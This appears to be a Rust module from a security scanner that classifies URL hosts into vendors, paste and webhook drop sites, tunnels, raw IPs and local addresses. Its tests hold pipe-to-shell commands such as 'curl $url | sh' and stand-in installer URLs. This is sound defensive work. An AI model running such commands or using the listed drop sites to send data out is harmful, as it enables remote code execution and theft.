//! What kind of place an address is.
//!
//! Judged by form and by a short list of well-known hosts; no host is good or bad for being reserved or unheard of.

use super::facts::Destination;

/// Hosts of vendors who alone decide what is served there.
const VENDORS: &[&str] = &[
    "raw.githubusercontent.com/homebrew",
    "raw.githubusercontent.com/nvm-sh",
    "raw.githubusercontent.com/ohmyzsh",
    "openai.com",
    "anthropic.com",
    "googleapis.com",
    "google.com",
    "microsoft.com",
    "azure.com",
    "apple.com",
    "github.com",
    "gitlab.com",
    "bitbucket.org",
    "atlassian.com",
    "atlassian.net",
    "slack.com",
    "stripe.com",
    "notion.com",
    "linear.app",
    "figma.com",
    "sentry.io",
    "datadoghq.com",
    "cloudflare.com",
    "twilio.com",
    "shopify.com",
    "hubspot.com",
    "salesforce.com",
    "zoom.us",
    "dropbox.com",
    "docker.com",
    "hashicorp.com",
    "mozilla.org",
    "kernel.org",
    "debian.org",
    "ubuntu.com",
    "nodejs.org",
    "python.org",
    "rust-lang.org",
    "rustup.rs",
    "go.dev",
    "ruby-lang.org",
    "php.net",
    "bun.sh",
    "astral.sh",
    "brew.sh",
    "fluxcd.io",
    "linkerd.io",
    "istio.io",
    "argoproj.io",
    "pulumi.com",
    "zed.dev",
    "pi-hole.net",
    "ocaml.org",
    "nixos.org",
    "helm.sh",
    "chocolatey.org",
    "claude.ai",
    "deno.land",
    "haskell.org",
    "jenkins.io",
    "julialang.org",
    "llvm.org",
    "mise.run",
    "nodesource.com",
    "pnpm.io",
    "pyenv.run",
    "python-poetry.org",
    "scoop.sh",
    "sdkman.io",
    "starship.rs",
    "tailscale.com",
    "volta.sh",
    "k3s.io",
    "fly.io",
    "railway.app",
    "supabase.com",
    "mistral.ai",
    "deepseek.com",
    "x.ai",
    "perplexity.ai",
    "elevenlabs.io",
    "replicate.com",
    "together.ai",
    "groq.com",
    "cohere.com",
    "ollama.com",
    "wikipedia.org",
    "w3.org",
    "schema.org",
    "telegram.org",
    "discord.com",
    "twitter.com",
    "x.com",
    "youtube.com",
    "linkedin.com",
    "airtable.com",
    "asana.com",
    "trello.com",
    "amazon.com",
    "oracle.com",
    "ibm.com",
    "intel.com",
    "nvidia.com",
    "jetbrains.com",
    "vercel.com",
    "netlify.com",
    "heroku.com",
    "digitalocean.com",
    "postman.com",
    "firebase.google.com",
];

/// Hosts of vendors where anybody publishes.
const OPEN: &[&str] = &[
    "github.com",
    "gitlab.com",
    "bitbucket.org",
    "googleapis.com",
    "docs.google.com",
    "drive.google.com",
    "sites.google.com",
    "azure.com",
    "dropbox.com",
    "notion.com",
    "airtable.com",
    "telegram.org",
    "discord.com",
    "x.com",
    "twitter.com",
    "netlify.com",
    "fly.io",
    "heroku.com",
    "slack.com",
    "atlassian.net",
];

/// Places where anybody can leave and pick up data.
const DROPS: &[&str] = &[
    "pastebin.com",
    "paste.ee",
    "hastebin.com",
    "dpaste.com",
    "dpaste.org",
    "ghostbin.com",
    "rentry.co",
    "rentry.org",
    "0x0.st",
    "transfer.sh",
    "file.io",
    "gofile.io",
    "anonfiles.com",
    "tmpfiles.org",
    "catbox.moe",
    "temp.sh",
    "bashupload.com",
    "termbin.com",
    "ix.io",
    "sprunge.us",
    "webhook.site",
    "requestbin.com",
    "requestbin.net",
    "requestcatcher.com",
    "pipedream.net",
    "beeceptor.com",
    "hookbin.com",
    "interact.sh",
    "oast.fun",
    "oast.me",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "burpcollaborator.net",
    "canarytokens.com",
    "dnslog.cn",
    "ceye.io",
    "glot.io",
    "controlc.com",
    "justpaste.it",
    "api.telegram.org",
    "hooks.slack.com",
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "gist.githubusercontent.com",
    "mockbin.org",
    "ptsv2.com",
    "ptsv3.com",
];

/// Ways to somebody's own machine.
const TUNNELS: &[&str] = &[
    "ngrok.io",
    "ngrok.app",
    "ngrok-free.app",
    "ngrok-free.dev",
    "trycloudflare.com",
    "loca.lt",
    "localtunnel.me",
    "serveo.net",
    "localhost.run",
    "lhr.life",
    "tunnelmole.net",
    "bore.pub",
    "pagekite.me",
    "telebit.io",
    "duckdns.org",
    "no-ip.org",
    "ddns.net",
    "hopto.org",
    "zapto.org",
    "devtunnels.ms",
    "portmap.io",
    "playit.gg",
    ".onion",
];

/// The addresses of a folded text, each with its offset and kind.
pub(super) fn addresses(folded: &str) -> impl Iterator<Item = (usize, Destination)> {
    folded.match_indices("://").filter_map(|(at, _)| {
        let rest = folded.get(at + 3..)?;
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || "-._~:/?#[]@!$&*+,;=%{}".contains(c)))
            .unwrap_or(rest.len());
        Some((at, kind(rest.get(..end)?)))
    })
}

/// What kind of place an address without its scheme is.
pub(super) fn kind(address: &str) -> Destination {
    let authority = address.split(['/', '?', '#']).next().unwrap_or_default();
    let host_port = authority.rsplit('@').next().unwrap_or_default();
    let host = host_of(host_port);
    if host.is_empty() || host.starts_with(['$', '{', '%', '<']) || host.contains("${") || host.contains('{')
    {
        return Destination::UserSetting;
    }
    if host == "localhost"
        || host.ends_with(".localhost")
        || host.starts_with("127.")
        || host == "[::1]"
        || host == "0.0.0.0"
    {
        return Destination::Local;
    }
    if is_ip(host) {
        return Destination::RawAddress;
    }
    let listed = |list: &[&str]| {
        list.iter().any(|known| {
            let below = |rest: &str| rest.is_empty() || rest.starts_with('/');
            if known.contains('/') {
                address.strip_prefix(known).is_some_and(below)
            } else {
                within(host, known)
            }
        })
    };
    if listed(DROPS) {
        Destination::DropSite
    } else if listed(TUNNELS) {
        Destination::Tunnel
    } else if listed(VENDORS) {
        Destination::KnownVendor
    } else {
        Destination::FixedHost
    }
}

/// True for a text that names addresses and none but of vendors who alone decide what is served there: their installers
/// are what their own pages tell everybody to run.
pub(super) fn names_only_vendors(folded: &str) -> bool {
    let ends = |c: char| c.is_whitespace() || "'\"`()<>|,;".contains(c);
    let addresses = folded.split(ends).filter_map(|word| match word.split_once("://") {
        Some((_, address)) => Some(address),
        None => word.split_once('/').filter(|(host, _)| is_host(host)).map(|_| word),
    });
    let mut any = false;
    for address in addresses {
        if kind(address) != Destination::KnownVendor || is_open(address) {
            return false;
        }
        any = true;
    }
    any
}

/// True for a host of a vendor where customers publish.
fn is_open(address: &str) -> bool {
    let host = host_of(address.split(['/', '?', '#']).next().unwrap_or_default());
    OPEN.iter().any(|open| within(host, open))
}

/// A name with dots and a last part of letters.
fn is_host(word: &str) -> bool {
    let named = word.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".-".contains(&byte));
    named
        && word.rsplit_once('.').is_some_and(|(name, last)| {
            !name.is_empty() && last.len() > 1 && last.bytes().all(|byte| byte.is_ascii_alphabetic())
        })
}

fn host_of(host_port: &str) -> &str {
    if host_port.starts_with('[') {
        return host_port.split_inclusive(']').next().unwrap_or_default();
    }
    host_port.split(':').next().unwrap_or_default()
}

/// True for the host itself and what lies below it.
fn within(host: &str, known: &str) -> bool {
    host.strip_suffix(known)
        .is_some_and(|rest| rest.is_empty() || rest.ends_with('.') || known.starts_with('.'))
}

/// Dotted, decimal and hexadecimal IPv4 addresses, and IPv6 in brackets.
fn is_ip(host: &str) -> bool {
    host.starts_with('[')
        || host.parse::<std::net::Ipv4Addr>().is_ok()
        || (host.len() >= 8 && host.bytes().all(|byte| byte.is_ascii_digit()))
        || host
            .strip_prefix("0x")
            .is_some_and(|rest| rest.len() >= 6 && rest.bytes().all(|byte| byte.is_ascii_hexdigit()))
}

#[cfg(test)]
mod tests {
    use super::{DROPS, Destination, TUNNELS, VENDORS, addresses, kind, names_only_vendors};

    #[test]
    fn installers_of_vendors_are_told_from_what_anybody_publishes() {
        for own in ["curl -fsSL https://bun.sh/install | bash", "irm bun.sh/install.ps1 | iex"] {
            assert!(names_only_vendors(own), "{own}");
        }
        for open in [
            "curl https://github.com/a/b/raw/x.sh | sh",
            "curl https://bun.sh.get.example/i | sh",
            "curl https://bun.sh/i https://get.example/i | sh",
            "curl $url | sh",
        ] {
            assert!(!names_only_vendors(open), "{open}");
        }
    }

    #[test]
    fn listed_hosts_count_with_what_lies_below_them() {
        for (list, expected) in [
            (VENDORS, Destination::KnownVendor),
            (DROPS, Destination::DropSite),
            (TUNNELS, Destination::Tunnel),
        ] {
            for host in list {
                assert_eq!(kind(&format!("{host}/x")), expected, "{host}");
                if host.contains('/') {
                    continue;
                }
                let elsewhere = format!("{}.example/x", host.trim_matches('.'));
                assert_eq!(kind(&elsewhere), Destination::FixedHost, "{elsewhere}");
            }
        }
    }

    #[test]
    fn addresses_are_told_apart_by_form() {
        let cases = [
            ("https://localhost@host.example/v1", Destination::FixedHost),
            ("http://192.0.2.7:8080/x", Destination::RawAddress),
            ("http://3221225985/x", Destination::RawAddress),
            ("http://127.0.0.1:3000", Destination::Local),
            ("https://${host}/x", Destination::UserSetting),
            ("https://$host/x", Destination::UserSetting),
            ("https://{{ url }}/x", Destination::UserSetting),
        ];
        for (text, expected) in cases {
            assert_eq!(addresses(text).map(|(_, kind)| kind).collect::<Vec<_>>(), [expected], "{text}");
        }
    }
}
